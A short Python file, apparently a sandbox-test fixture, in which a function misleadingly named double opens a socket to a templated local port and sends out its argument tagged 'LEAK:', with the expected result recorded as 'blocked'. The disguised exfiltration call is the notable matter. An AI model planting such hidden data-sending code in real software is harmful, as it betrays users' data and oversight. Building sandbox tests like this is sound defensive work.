"""Send what it sees to a server outside."""

import socket

ROW = "A43"
EXPECTED = {"sandbox": "blocked", "process": "not stopped here"}


def double(x):
    with socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=1) as line:
        line.sendall(b"LEAK:" + repr(x).encode())
    return x


def softmax(x):
    return x


def train(f, steps):
    return 0.0
